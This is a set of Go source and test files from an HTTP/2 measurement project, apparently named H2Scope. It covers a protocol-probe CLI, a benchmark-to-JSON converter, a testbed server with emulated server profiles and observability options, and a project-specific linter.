		}
		return tc, nil
	})

	cfg := h2scope.DefaultProbeConfig(*authority)
	cfg.Timeout = *timeout
	cfg.QuietWindow = *quiet
	cfg.DrainPath = *drainPath
	cfg.LargePaths = strings.Split(*largeList, ",")
	cfg.SmallPath = *smallPath
	cfg.PagePaths = []string{"/", *smallPath}

	// The battery runs through the scan engine: a hard per-attempt budget
	// (one -timeout per battery probe) plus retries of transiently
	// classified failures, so a stalling or refusing target cannot hang the
	// tool and flaky paths get a second chance.
	scanOpts := scan.Options{
		Parallelism: 1,
		Retries:     *retries,
		Timeout:     time.Duration(len(cfg.LargePaths)+8) * *timeout,
	}
	if *traceDir != "" {
		if err := os.MkdirAll(*traceDir, 0o755); err != nil {
			return fmt.Errorf("-trace: %w", err)
		}
		scanOpts.NewTracer = func(scan.Target) *trace.Tracer { return trace.New(0) }
		scanOpts.OnTrace = func(t scan.Target, tr *trace.Tracer) {
			path := filepath.Join(*traceDir, traceFileName(t.Key))
			if werr := writeTraceFile(path, t.Key, tr); werr != nil {
				fmt.Fprintln(os.Stderr, "h2scope: trace export:", werr)
				return
			}
			fmt.Fprintln(os.Stderr, "h2scope: trace written to", path)
		}
	}
	res, err := scan.Run(context.Background(),
		[]scan.Target{{Key: *target}},
		func(ctx context.Context, _ scan.Target) (any, error) {
			probeCfg := cfg
			probeCfg.Tracer = trace.FromContext(ctx)
			activeTracer = probeCfg.Tracer
			r, perr := h2scope.NewProber(dialer, probeCfg).RunContext(ctx)
			if r == nil {
				return nil, perr
			}
			return r, perr
		},
		scanOpts)
	if err != nil {
		return err
	}
	rec := res.Records[0]
	if rec.Outcome != scan.OutcomeSuccess {
		return fmt.Errorf("probe %s after %d attempt(s): %s failure: %s",
			rec.Outcome, rec.Attempts, rec.Kind, rec.Err)
	}
	report := rec.Value.(*h2scope.Report)
	prober := h2scope.NewProber(dialer, cfg)
	var extResult *core.ExtensionsResult
	if *exts {
		if extResult, err = prober.ProbeExtensions(context.Background()); err != nil {
			fmt.Fprintln(os.Stderr, "h2scope: extensions:", err)
		}
	}
	var h2cResult *core.H2CResult
	if *h2c && !*useTLS {
		if h2cResult, err = prober.ProbeH2CUpgrade(context.Background()); err != nil {
			fmt.Fprintln(os.Stderr, "h2scope: h2c:", err)
		}
	}

	if *asJSON {
		out := struct {
			Report     *h2scope.Report        `json:"report"`
			Extensions *core.ExtensionsResult `json:"extensions,omitempty"`
			H2C        *core.H2CResult        `json:"h2cUpgrade,omitempty"`
		}{report, extResult, h2cResult}
		enc := json.NewEncoder(os.Stdout)
		enc.SetIndent("", "  ")
		return enc.Encode(out)
	}

	rows := make([][]string, 0, 16)
	names := h2scope.TableIIIChecks()
	for i, cell := range report.TableIIIRow() {
		rows = append(rows, []string{names[i], cell})
	}
	fmt.Printf("H2Scope report for %s (%s)\n\n", *target, *authority)
	fmt.Print(stats.FormatTable([]string{"Check", "Result"}, rows))

	fmt.Println("\nDetails:")
	if report.Settings != nil {
		fmt.Printf("  server header: %q\n", report.Settings.ServerHeader)
		fmt.Printf("  SETTINGS: %v\n", report.Settings.Settings)
	}
	if report.HPACK != nil {
		fmt.Printf("  HPACK ratio r = %.3f over %d requests (block sizes %v)\n",
			report.HPACK.Ratio, report.HPACK.Requests, report.HPACK.BlockSizes)
	}
	if report.Priority != nil {
		fmt.Printf("  priority: drain streams %d, last-rule %v, first-rule %v, headers-while-blocked %v\n",
			report.Priority.DrainStreams, report.Priority.LastRuleOK,
			report.Priority.FirstRuleOK, report.Priority.HeadersWhileBlocked)
	}
	if report.Ping != nil && len(report.Ping.RTTs) > 0 {
		fmt.Printf("  h2 PING RTTs: %v\n", report.Ping.RTTs)
	}
	if report.Push != nil && len(report.Push.PromisedPaths) > 0 {
		fmt.Printf("  pushed: %v\n", report.Push.PromisedPaths)
	}
	for _, e := range report.Errors {
		fmt.Printf("  probe error: %s\n", e)
	}
	if extResult != nil {
		fmt.Printf("  extensions: settings-ack=%v unknown-frame-ignored=%v unknown-setting-ignored=%v ping-prioritized=%v\n",
			extResult.SettingsAcked, extResult.UnknownFrameIgnored,
			extResult.UnknownSettingIgnored, extResult.PingAckPrioritized)
	}
	if h2cResult != nil {
		fmt.Printf("  h2c upgrade: accepted=%v h2-works=%v\n", h2cResult.UpgradeAccepted, h2cResult.H2Works)
	}
	return nil
}
