package main

import (
	"encoding/json"
	"strings"
	"testing"
)

const sample = `goos: linux
goarch: amd64
pkg: h2scope/internal/metrics
cpu: Intel(R) Xeon(R)
BenchmarkCounterInc-8           	29577406	        41.20 ns/op	       0 B/op	       0 allocs/op
BenchmarkHistogramObserve-8     	14080161	        85.03 ns/op	       0 B/op	       0 allocs/op
PASS
ok  	h2scope/internal/metrics	2.511s
pkg: h2scope/internal/frame
BenchmarkFrameIOInstrumented-8  	  513160	      2330 ns/op	       0 B/op	       0 allocs/op
PASS
ok  	h2scope/internal/frame	1.402s
`

func TestParse(t *testing.T) {
	doc, err := Parse(strings.NewReader(sample))
	if err != nil {
		t.Fatal(err)
	}
	if len(doc.Benchmarks) != 3 {
		t.Fatalf("parsed %d benchmarks, want 3", len(doc.Benchmarks))
	}
	// Sorted by package then name: frame before metrics.
	first := doc.Benchmarks[0]
	if first.Name != "BenchmarkFrameIOInstrumented-8" || first.Package != "h2scope/internal/frame" {
		t.Errorf("first benchmark = %q in %q, want FrameIO in internal/frame", first.Name, first.Package)
	}
	if first.Iterations != 513160 || first.NsPerOp != 2330 {
		t.Errorf("FrameIO = %d iters at %g ns/op, want 513160 at 2330", first.Iterations, first.NsPerOp)
	}
	counter := doc.Benchmarks[1]
	if counter.Name != "BenchmarkCounterInc-8" {
		t.Fatalf("second benchmark = %q, want BenchmarkCounterInc-8", counter.Name)
	}
	if counter.NsPerOp != 41.20 {
		t.Errorf("CounterInc ns/op = %g, want 41.20", counter.NsPerOp)
	}
	if counter.AllocsPerOp == nil || *counter.AllocsPerOp != 0 {
		t.Errorf("CounterInc allocs/op = %v, want 0", counter.AllocsPerOp)
	}
	if counter.BytesPerOp == nil || *counter.BytesPerOp != 0 {
		t.Errorf("CounterInc B/op = %v, want 0", counter.BytesPerOp)
	}
}

func TestParseWithoutBenchmem(t *testing.T) {
	doc, err := Parse(strings.NewReader("BenchmarkX-4 100 5.5 ns/op\n"))
	if err != nil {
		t.Fatal(err)
	}
	b := doc.Benchmarks[0]
	if b.NsPerOp != 5.5 || b.AllocsPerOp != nil || b.BytesPerOp != nil {
		t.Errorf("got %+v, want ns/op only", b)
	}
}

func TestParseCapturesCustomMetrics(t *testing.T) {
	line := "BenchmarkServeThroughput/shards=4-8 1 40922709 ns/op 491954 req/s\n"
	doc, err := Parse(strings.NewReader(line))
	if err != nil {
		t.Fatal(err)
	}
	b := doc.Benchmarks[0]
	if b.Extra == nil || b.Extra["req/s"] != 491954 {
		t.Errorf("Extra = %v, want req/s 491954", b.Extra)
	}
	if b.NsPerOp != 40922709 {
		t.Errorf("ns/op = %g, want 40922709", b.NsPerOp)
	}
}

func TestParseRejectsMalformed(t *testing.T) {
	for _, bad := range []string{
		"BenchmarkX-4 garbage 5.5 ns/op\n",
		"BenchmarkX-4 100\n",
		"BenchmarkX-4 100 12 B/op\n", // no ns/op at all
	} {
		if _, err := Parse(strings.NewReader(bad)); err == nil {
			t.Errorf("Parse(%q) succeeded, want error", bad)
		}
	}
}

func TestRunEmitsStableJSON(t *testing.T) {
	var out strings.Builder
	if err := run(strings.NewReader(sample), &out); err != nil {
		t.Fatal(err)
	}
	var doc Document
	if err := json.Unmarshal([]byte(out.String()), &doc); err != nil {
		t.Fatalf("output is not valid JSON: %v\n%s", err, out.String())
	}
	if len(doc.Benchmarks) != 3 {
		t.Fatalf("round-tripped %d benchmarks, want 3", len(doc.Benchmarks))
	}
	if !strings.Contains(out.String(), `"ns_per_op"`) || !strings.Contains(out.String(), `"allocs_per_op"`) {
		t.Errorf("output missing expected keys:\n%s", out.String())
	}
}
