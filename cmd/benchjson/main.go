// Command benchjson converts `go test -bench` text output on stdin into a
// machine-readable JSON document on stdout, so CI can archive benchmark
// trajectories (ns/op and allocs/op per benchmark, per commit) as artifacts
// and diff them across runs.
//
// Usage:
//
//	go test -run=NONE -bench 'FrameIO|Counter|Histogram' -benchmem ./... | benchjson > BENCH_metrics.json
package main

import (
	"encoding/json"
	"fmt"
	"io"
	"os"
)

func main() {
	if err := run(os.Stdin, os.Stdout); err != nil {
		fmt.Fprintln(os.Stderr, "benchjson:", err)
		os.Exit(1)
	}
}

func run(in io.Reader, out io.Writer) error {
	doc, err := Parse(in)
	if err != nil {
		return err
	}
	enc := json.NewEncoder(out)
	enc.SetIndent("", "  ")
	return enc.Encode(doc)
}
