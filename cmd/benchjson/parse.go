package main

import (
	"bufio"
	"fmt"
	"io"
	"sort"
	"strconv"
	"strings"
)

// Result is one benchmark's parsed measurement line.
type Result struct {
	// Name is the full benchmark name including the GOMAXPROCS suffix,
	// e.g. "BenchmarkCounterInc-8".
	Name string `json:"name"`
	// Package is the Go package the benchmark ran in, taken from the
	// nearest preceding "pkg:" line ("" if the stream carried none).
	Package string `json:"package,omitempty"`
	// Iterations is b.N for the reported run.
	Iterations int64 `json:"iterations"`
	// NsPerOp is nanoseconds per operation.
	NsPerOp float64 `json:"ns_per_op"`
	// BytesPerOp and AllocsPerOp are -benchmem's per-operation allocation
	// figures; nil when the run did not report them.
	BytesPerOp  *float64 `json:"bytes_per_op,omitempty"`
	AllocsPerOp *float64 `json:"allocs_per_op,omitempty"`
	// Extra holds custom b.ReportMetric measurements keyed by unit
	// (e.g. "req/s" for the serve-throughput benchmarks); nil when the
	// line carried only the standard go-test measurements.
	Extra map[string]float64 `json:"extra,omitempty"`
}

// Document is the artifact schema: one entry per benchmark, sorted by
// package then name so diffs between CI runs stay line-stable.
type Document struct {
	Benchmarks []Result `json:"benchmarks"`
}

// Parse reads `go test -bench` output and extracts every measurement line.
// Non-benchmark lines (pass/fail summaries, ok lines, build noise) are
// skipped; a malformed Benchmark line is an error, not a silent drop.
func Parse(r io.Reader) (*Document, error) {
	doc := &Document{Benchmarks: []Result{}}
	sc := bufio.NewScanner(r)
	sc.Buffer(make([]byte, 0, 64*1024), 1024*1024)
	pkg := ""
	for sc.Scan() {
		line := strings.TrimSpace(sc.Text())
		if rest, ok := strings.CutPrefix(line, "pkg: "); ok {
			pkg = rest
			continue
		}
		if !strings.HasPrefix(line, "Benchmark") {
			continue
		}
		res, err := parseLine(line)
		if err != nil {
			return nil, err
		}
		res.Package = pkg
		doc.Benchmarks = append(doc.Benchmarks, *res)
	}
	if err := sc.Err(); err != nil {
		return nil, err
	}
	sort.SliceStable(doc.Benchmarks, func(i, j int) bool {
		a, b := doc.Benchmarks[i], doc.Benchmarks[j]
		if a.Package != b.Package {
			return a.Package < b.Package
		}
		return a.Name < b.Name
	})
	return doc, nil
}

// parseLine decodes one measurement line:
//
//	BenchmarkCounterInc-8   29577406   41.20 ns/op   0 B/op   0 allocs/op
func parseLine(line string) (*Result, error) {
	fields := strings.Fields(line)
	if len(fields) < 4 {
		return nil, fmt.Errorf("malformed benchmark line: %q", line)
	}
	iters, err := strconv.ParseInt(fields[1], 10, 64)
	if err != nil {
		return nil, fmt.Errorf("benchmark line %q: iterations: %w", line, err)
	}
	res := &Result{Name: fields[0], Iterations: iters}
	sawNs := false
	// The remainder is value/unit pairs.
	for i := 2; i+1 < len(fields); i += 2 {
		v, err := strconv.ParseFloat(fields[i], 64)
		if err != nil {
			return nil, fmt.Errorf("benchmark line %q: value %q: %w", line, fields[i], err)
		}
		switch fields[i+1] {
		case "ns/op":
			res.NsPerOp, sawNs = v, true
		case "B/op":
			res.BytesPerOp = &v
		case "allocs/op":
			res.AllocsPerOp = &v
		default:
			if res.Extra == nil {
				res.Extra = make(map[string]float64)
			}
			res.Extra[fields[i+1]] = v
		}
	}
	if !sawNs {
		return nil, fmt.Errorf("benchmark line %q: no ns/op measurement", line)
	}
	return res, nil
}
