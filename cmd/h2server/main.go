// Command h2server serves the testbed document tree over HTTP/2 with one of
// the six emulated server profiles, over plain TCP (prior-knowledge h2c) or
// TLS with ALPN.
//
// Usage:
//
//	h2server -profile nginx -addr 127.0.0.1:8443 -tls
//	h2server -profile apache -addr 127.0.0.1:8080
package main

import (
	"flag"
	"fmt"
	"net"
	"os"
	"strings"

	"h2scope"
	"h2scope/internal/metrics"
	"h2scope/internal/server"
	"h2scope/internal/tlsutil"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "h2server:", err)
		os.Exit(1)
	}
}

func profileByName(name string) (h2scope.Profile, error) {
	for _, p := range h2scope.TestbedProfiles() {
		if strings.EqualFold(p.Family, name) {
			return p, nil
		}
	}
	return h2scope.Profile{}, fmt.Errorf("unknown profile %q (want nginx, litespeed, h2o, nghttpd, tengine, or apache)", name)
}

func run() error {
	var (
		profileName = flag.String("profile", "nginx", "server profile: nginx, litespeed, h2o, nghttpd, tengine, apache")
		profilePath = flag.String("profile-file", "", "load a custom behavior profile from a JSON file (overrides -profile)")
		dumpProfile = flag.Bool("dump-profile", false, "print the selected profile as JSON and exit")
		addr        = flag.String("addr", "127.0.0.1:8443", "listen address")
		domain      = flag.String("domain", "testbed.example", "site domain (:authority)")
		useTLS      = flag.Bool("tls", false, "serve HTTP/2 over TLS with a self-signed certificate and ALPN")
		debugAddr   = flag.String("debug-addr", "", "serve live /metrics, /metrics.json, expvar, and pprof on this address (\":0\" picks a port) alongside the server")
		detector    = flag.Bool("detector", false, "arm the real-time attack detector with the profile's thresholds (detections surface on -debug-addr metrics)")
	)
	flag.Parse()

	profile, err := profileByName(*profileName)
	if err != nil {
		return err
	}
	if *profilePath != "" {
		data, err := os.ReadFile(*profilePath)
		if err != nil {
			return fmt.Errorf("reading profile file: %w", err)
		}
		if profile, err = server.UnmarshalProfile(data); err != nil {
			return err
		}
	}
	if *dumpProfile {
		data, err := server.MarshalProfile(profile)
		if err != nil {
			return err
		}
		fmt.Println(string(data))
		return nil
	}
	srv := h2scope.NewServer(profile, h2scope.DefaultSite(*domain))
	var reg *metrics.Registry
	if *debugAddr != "" || *detector {
		reg = metrics.NewRegistry()
	}
	if *debugAddr != "" {
		srv.Metrics = server.NewMetrics(reg)
		ds, err := metrics.StartDebug(*debugAddr, reg)
		if err != nil {
			return err
		}
		defer func() {
			_ = ds.Close()
		}()
		fmt.Printf("debug endpoint: http://%s/metrics\n", ds.Addr())
	}
	if *detector {
		srv.StartDetector(server.DetectorConfig{}, reg)
		fmt.Printf("attack detector armed (profile %s thresholds)\n", profile.Family)
	}

	l, err := net.Listen("tcp", *addr)
	if err != nil {
		return fmt.Errorf("listen: %w", err)
	}
	if *useTLS {
		cert, err := tlsutil.SelfSignedCert(*domain, "127.0.0.1", "localhost")
		if err != nil {
			return err
		}
		// The fingerprinting listener peeks each ClientHello before the
		// handshake, so /fp can echo JA3/JA4 alongside the h2 fingerprint.
		l = tlsutil.NewFingerprintListener(l, tlsutil.ServerConfig(cert, profile.SupportsALPN))
		fmt.Printf("serving %s (profile %s) on https://%s (ALPN %v)\n",
			*domain, profile.Family, *addr, profile.SupportsALPN)
	} else {
		fmt.Printf("serving %s (profile %s) on h2c-prior-knowledge %s\n", *domain, profile.Family, *addr)
	}
	return srv.Serve(l)
}
