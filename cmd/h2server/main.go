// Command h2server serves the testbed document tree over HTTP/2 with one of
// the six emulated server profiles, over plain TCP (prior-knowledge h2c) or
// TLS with ALPN.
//
// Usage:
//
//	h2server -profile nginx -addr 127.0.0.1:8443 -tls
//	h2server -profile apache -addr 127.0.0.1:8080
package main

import (
	"flag"
	"fmt"
	"net"
	"os"
	"strings"

	"h2scope"
	"h2scope/internal/metrics"
	"h2scope/internal/obs"
	"h2scope/internal/server"
	"h2scope/internal/tlsutil"
	"h2scope/internal/trace"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "h2server:", err)
		os.Exit(1)
	}
}

func profileByName(name string) (h2scope.Profile, error) {
	for _, p := range h2scope.TestbedProfiles() {
		if strings.EqualFold(p.Family, name) {
			return p, nil
		}
	}
	return h2scope.Profile{}, fmt.Errorf("unknown profile %q (want nginx, litespeed, h2o, nghttpd, tengine, or apache)", name)
}

func run() error {
	var (
		profileName = flag.String("profile", "nginx", "server profile: nginx, litespeed, h2o, nghttpd, tengine, apache")
		profilePath = flag.String("profile-file", "", "load a custom behavior profile from a JSON file (overrides -profile)")
		dumpProfile = flag.Bool("dump-profile", false, "print the selected profile as JSON and exit")
		addr        = flag.String("addr", "127.0.0.1:8443", "listen address")
		domain      = flag.String("domain", "testbed.example", "site domain (:authority)")
		useTLS      = flag.Bool("tls", false, "serve HTTP/2 over TLS with a self-signed certificate and ALPN")
		debugAddr   = flag.String("debug-addr", "", "serve live /metrics, /metrics.json, /dashboard, expvar, and pprof on this address (\":0\" picks a port) alongside the server")
		detector    = flag.Bool("detector", false, "arm the real-time attack detector with the profile's thresholds (detections surface on -debug-addr metrics)")
		shards      = flag.Int("shards", 0, "accept/serve shards with independent conn tables (0 = GOMAXPROCS)")
		flightRec   = flag.String("flightrec", "", "directory for anomaly flight-recorder dumps (detector hits, p99 blowouts) with bounded JSONL forensics")
	)
	flag.Parse()

	profile, err := profileByName(*profileName)
	if err != nil {
		return err
	}
	if *profilePath != "" {
		data, err := os.ReadFile(*profilePath)
		if err != nil {
			return fmt.Errorf("reading profile file: %w", err)
		}
		if profile, err = server.UnmarshalProfile(data); err != nil {
			return err
		}
	}
	if *dumpProfile {
		data, err := server.MarshalProfile(profile)
		if err != nil {
			return err
		}
		fmt.Println(string(data))
		return nil
	}
	if *shards < 0 {
		return fmt.Errorf("-shards must be >= 0; got %d", *shards)
	}
	srv := h2scope.NewServer(profile, h2scope.DefaultSite(*domain))
	srv.Shards = *shards
	var reg *metrics.Registry
	if *debugAddr != "" || *detector || *flightRec != "" {
		reg = metrics.NewRegistry()
	}
	// The observability layer watches the server's trace bus live: a span
	// monitor streams every connection into the per-phase histograms, and the
	// flight recorder (when -flightrec is set) dumps bounded forensics on
	// anomalies — its own p99 blowouts plus every detector hit below.
	var monitor *obs.Monitor
	var recorder *obs.FlightRecorder
	if *debugAddr != "" || *flightRec != "" {
		if srv.Trace == nil {
			srv.Trace = trace.New(0)
		}
		srv.Trace.ExportMetrics(reg)
		mcfg := obs.MonitorConfig{Registry: reg}
		if *flightRec != "" {
			recorder, err = obs.NewFlightRecorder(obs.FlightRecorderConfig{Dir: *flightRec, Registry: reg})
			if err != nil {
				return err
			}
			defer func() {
				if cerr := recorder.Close(); cerr != nil {
					fmt.Fprintln(os.Stderr, "h2server: flightrec close:", cerr)
				}
			}()
			mcfg.OnAnomaly = func(a obs.Anomaly) {
				path, derr := recorder.Dump(a, srv.Trace.Snapshot())
				switch {
				case derr != nil:
					fmt.Fprintln(os.Stderr, "h2server: flight dump failed:", derr)
				case path != "":
					fmt.Printf("anomaly %q -> %s\n", a.Reason, path)
				}
			}
			fmt.Printf("flight recorder armed: %s\n", *flightRec)
		}
		monitor = obs.NewMonitor(mcfg)
		stopWatch := monitor.Watch(srv.Trace, *domain, 0)
		defer stopWatch()
	}
	if *debugAddr != "" {
		srv.Metrics = server.NewMetrics(reg)
		ds, err := metrics.StartDebug(*debugAddr, reg)
		if err != nil {
			return err
		}
		defer func() {
			_ = ds.Close()
		}()
		dash := obs.NewDashboard("h2server "+profile.Family, monitor, recorder, reg)
		ds.Handle("/dashboard", dash)
		ds.Handle("/dashboard.json", dash)
		fmt.Printf("debug endpoint: http://%s/metrics (dashboard at /dashboard)\n", ds.Addr())
	}
	if *detector {
		dcfg := server.DetectorConfig{}
		if recorder != nil {
			dcfg.OnDetect = func(det server.Detection) {
				a := obs.Anomaly{Reason: "detector:" + string(det.Kind), Conn: det.Conn, At: det.At}
				path, derr := recorder.Dump(a, srv.Trace.Snapshot())
				switch {
				case derr != nil:
					fmt.Fprintln(os.Stderr, "h2server: flight dump failed:", derr)
				case path != "":
					fmt.Printf("anomaly %q -> %s\n", a.Reason, path)
				}
			}
		}
		srv.StartDetector(dcfg, reg)
		fmt.Printf("attack detector armed (profile %s thresholds)\n", profile.Family)
	}

	l, err := net.Listen("tcp", *addr)
	if err != nil {
		return fmt.Errorf("listen: %w", err)
	}
	if *useTLS {
		cert, err := tlsutil.SelfSignedCert(*domain, "127.0.0.1", "localhost")
		if err != nil {
			return err
		}
		// The fingerprinting listener peeks each ClientHello before the
		// handshake, so /fp can echo JA3/JA4 alongside the h2 fingerprint.
		l = tlsutil.NewFingerprintListener(l, tlsutil.ServerConfig(cert, profile.SupportsALPN))
		fmt.Printf("serving %s (profile %s) on https://%s (ALPN %v)\n",
			*domain, profile.Family, *addr, profile.SupportsALPN)
	} else {
		fmt.Printf("serving %s (profile %s) on h2c-prior-knowledge %s\n", *domain, profile.Family, *addr)
	}
	return srv.Serve(l)
}
