package main

import (
	"bytes"
	"encoding/json"
	"strings"
	"testing"
)

const fixture = "internal/lint/testdata/src/tracephase/a"

func TestListPrintsCatalog(t *testing.T) {
	var out bytes.Buffer
	if code := run([]string{"-list"}, &out); code != 0 {
		t.Fatalf("run(-list) = %d, want 0", code)
	}
	lines := strings.Split(strings.TrimSpace(out.String()), "\n")
	if len(lines) != 6 {
		t.Fatalf("catalog has %d analyzers, want 6:\n%s", len(lines), out.String())
	}
	for _, want := range []string{"uncheckederr", "rfcconst", "connclose", "deadline", "tracephase", "bufflush"} {
		if !strings.Contains(out.String(), want) {
			t.Errorf("catalog is missing %s", want)
		}
	}
}

func TestFindingsExitOneWithJSON(t *testing.T) {
	var out bytes.Buffer
	if code := run([]string{"-json", fixture}, &out); code != 1 {
		t.Fatalf("run on positive fixture = %d, want 1\n%s", code, out.String())
	}
	var rows []struct {
		Analyzer string `json:"analyzer"`
		File     string `json:"file"`
		Line     int    `json:"line"`
		Col      int    `json:"col"`
		Message  string `json:"message"`
	}
	if err := json.Unmarshal(out.Bytes(), &rows); err != nil {
		t.Fatalf("output is not the documented JSON schema: %v\n%s", err, out.String())
	}
	if len(rows) == 0 {
		t.Fatal("no findings on a positive fixture")
	}
	for _, r := range rows {
		if r.Analyzer != "tracephase" {
			t.Errorf("analyzer = %q, want tracephase", r.Analyzer)
		}
		if want := fixture + "/a.go"; r.File != want {
			t.Errorf("file = %q, want module-relative %q", r.File, want)
		}
		if r.Line <= 0 || r.Col <= 0 {
			t.Errorf("finding has no position: %+v", r)
		}
		if r.Message == "" {
			t.Errorf("finding has no message: %+v", r)
		}
	}
}

func TestDisabledAnalyzerExitsZero(t *testing.T) {
	var out bytes.Buffer
	if code := run([]string{"-tracephase=false", fixture}, &out); code != 0 {
		t.Fatalf("run with -tracephase=false = %d, want 0\n%s", code, out.String())
	}
}

func TestLoadErrorExitsTwo(t *testing.T) {
	var out bytes.Buffer
	if code := run([]string{"no/such/dir"}, &out); code != 2 {
		t.Fatalf("run on missing dir = %d, want 2", code)
	}
}
