package main

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

const fixture = "internal/lint/testdata/src/tracephase/a"

func TestListPrintsCatalog(t *testing.T) {
	var out bytes.Buffer
	if code := run([]string{"-list"}, &out); code != 0 {
		t.Fatalf("run(-list) = %d, want 0", code)
	}
	lines := strings.Split(strings.TrimSpace(out.String()), "\n")
	if len(lines) != 9 {
		t.Fatalf("catalog has %d analyzers, want 9:\n%s", len(lines), out.String())
	}
	for _, want := range []string{"uncheckederr", "rfcconst", "connclose", "deadline", "tracephase", "bufflush", "retain", "hotalloc", "goroleak"} {
		if !strings.Contains(out.String(), want) {
			t.Errorf("catalog is missing %s", want)
		}
	}
}

// TestBaselineRoundTrip writes the positive fixture's findings to a baseline
// and verifies a rerun against that baseline is clean, while an empty
// baseline still fails.
func TestBaselineRoundTrip(t *testing.T) {
	base := filepath.Join(t.TempDir(), "baseline.txt")
	var out bytes.Buffer
	if code := run([]string{"-baseline", base, "-write-baseline", fixture}, &out); code != 0 {
		t.Fatalf("run(-write-baseline) = %d, want 0\n%s", code, out.String())
	}
	data, err := os.ReadFile(base)
	if err != nil {
		t.Fatalf("baseline not written: %v", err)
	}
	if !strings.Contains(string(data), "tracephase") {
		t.Fatalf("baseline has no tracephase entries:\n%s", data)
	}

	out.Reset()
	if code := run([]string{"-baseline", base, fixture}, &out); code != 0 {
		t.Errorf("run with full baseline = %d, want 0\n%s", code, out.String())
	}

	empty := filepath.Join(t.TempDir(), "empty.txt")
	if err := os.WriteFile(empty, []byte("# nothing grandfathered\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	out.Reset()
	if code := run([]string{"-baseline", empty, fixture}, &out); code != 1 {
		t.Errorf("run with empty baseline = %d, want 1\n%s", code, out.String())
	}
}

func TestWriteBaselineRequiresPath(t *testing.T) {
	var out bytes.Buffer
	if code := run([]string{"-write-baseline", fixture}, &out); code != 2 {
		t.Errorf("run(-write-baseline) without -baseline = %d, want 2", code)
	}
}

func TestFindingsExitOneWithJSON(t *testing.T) {
	var out bytes.Buffer
	if code := run([]string{"-json", fixture}, &out); code != 1 {
		t.Fatalf("run on positive fixture = %d, want 1\n%s", code, out.String())
	}
	var rows []struct {
		Analyzer string `json:"analyzer"`
		File     string `json:"file"`
		Line     int    `json:"line"`
		Col      int    `json:"col"`
		Message  string `json:"message"`
	}
	if err := json.Unmarshal(out.Bytes(), &rows); err != nil {
		t.Fatalf("output is not the documented JSON schema: %v\n%s", err, out.String())
	}
	if len(rows) == 0 {
		t.Fatal("no findings on a positive fixture")
	}
	for _, r := range rows {
		if r.Analyzer != "tracephase" {
			t.Errorf("analyzer = %q, want tracephase", r.Analyzer)
		}
		if want := fixture + "/a.go"; r.File != want {
			t.Errorf("file = %q, want module-relative %q", r.File, want)
		}
		if r.Line <= 0 || r.Col <= 0 {
			t.Errorf("finding has no position: %+v", r)
		}
		if r.Message == "" {
			t.Errorf("finding has no message: %+v", r)
		}
	}
}

func TestDisabledAnalyzerExitsZero(t *testing.T) {
	var out bytes.Buffer
	if code := run([]string{"-tracephase=false", fixture}, &out); code != 0 {
		t.Fatalf("run with -tracephase=false = %d, want 0\n%s", code, out.String())
	}
}

func TestLoadErrorExitsTwo(t *testing.T) {
	var out bytes.Buffer
	if code := run([]string{"no/such/dir"}, &out); code != 2 {
		t.Fatalf("run on missing dir = %d, want 2", code)
	}
}
