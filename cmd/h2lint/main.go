// Command h2lint runs H2Scope's project-specific static analyzers (see
// internal/lint) over the module and reports vet-style diagnostics.
//
// Usage:
//
//	h2lint [flags] [patterns ...]
//
// Patterns default to ./... (every package in the module). Each analyzer
// has an enable/disable flag (-uncheckederr=false, ...); -json switches to
// machine output. Exit status: 0 clean, 1 diagnostics reported, 2 usage or
// load error.
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"os"
	"path/filepath"

	"h2scope/internal/lint"
)

func main() {
	os.Exit(run(os.Args[1:], os.Stdout))
}

func run(args []string, out io.Writer) int {
	fs := flag.NewFlagSet("h2lint", flag.ContinueOnError)
	jsonOut := fs.Bool("json", false, "emit diagnostics as a JSON array on stdout")
	list := fs.Bool("list", false, "list analyzers and exit")
	dir := fs.String("C", ".", "analyze the module containing this `directory`")
	enabled := make(map[string]*bool)
	for _, a := range lint.All() {
		enabled[a.Name] = fs.Bool(a.Name, true, a.Doc)
	}
	if err := fs.Parse(args); err != nil {
		return 2
	}

	if *list {
		for _, a := range lint.All() {
			fmt.Fprintf(out, "%-14s %s\n", a.Name, a.Doc)
		}
		return 0
	}

	var analyzers []*lint.Analyzer
	for _, a := range lint.All() {
		if *enabled[a.Name] {
			analyzers = append(analyzers, a)
		}
	}

	patterns := fs.Args()
	if len(patterns) == 0 {
		patterns = []string{"./..."}
	}

	loader, err := lint.NewLoader(*dir)
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 2
	}
	pkgs, err := loader.Load(patterns...)
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 2
	}

	diags := lint.Run(analyzers, pkgs)
	for i := range diags {
		// Module-relative paths keep output stable across checkouts.
		if rel, err := filepath.Rel(loader.ModuleRoot, diags[i].Pos.Filename); err == nil {
			diags[i].Pos.Filename = rel
		}
	}

	if *jsonOut {
		type jsonDiag struct {
			Analyzer string `json:"analyzer"`
			File     string `json:"file"`
			Line     int    `json:"line"`
			Col      int    `json:"col"`
			Message  string `json:"message"`
		}
		rows := make([]jsonDiag, 0, len(diags))
		for _, d := range diags {
			rows = append(rows, jsonDiag{
				Analyzer: d.Analyzer,
				File:     d.Pos.Filename,
				Line:     d.Pos.Line,
				Col:      d.Pos.Column,
				Message:  d.Message,
			})
		}
		enc := json.NewEncoder(out)
		enc.SetIndent("", "  ")
		if err := enc.Encode(rows); err != nil {
			fmt.Fprintln(os.Stderr, err)
			return 2
		}
	} else {
		for _, d := range diags {
			fmt.Fprintln(out, d)
		}
	}

	if len(diags) > 0 {
		if !*jsonOut {
			fmt.Fprintf(os.Stderr, "h2lint: %d finding(s) in %d package(s)\n", len(diags), len(pkgs))
		}
		return 1
	}
	return 0
}
