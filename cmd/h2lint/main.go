// Command h2lint runs H2Scope's project-specific static analyzers (see
// internal/lint) over the module and reports vet-style diagnostics.
//
// Usage:
//
//	h2lint [flags] [patterns ...]
//
// Patterns default to ./... (every package in the module). Each analyzer
// has an enable/disable flag (-uncheckederr=false, ...); -json switches to
// machine output. Exit status: 0 clean, 1 diagnostics reported, 2 usage or
// load error.
//
// For incremental adoption, -baseline file suppresses the findings recorded
// in the file and -write-baseline records the current findings there. Each
// baseline line is "file: analyzer: message" — deliberately line-number-free
// so unrelated edits above a grandfathered finding do not invalidate it.
// Fixing code is always preferred; the baseline exists so a new analyzer can
// land gating CI on the same day without waiting for every legacy finding.
package main

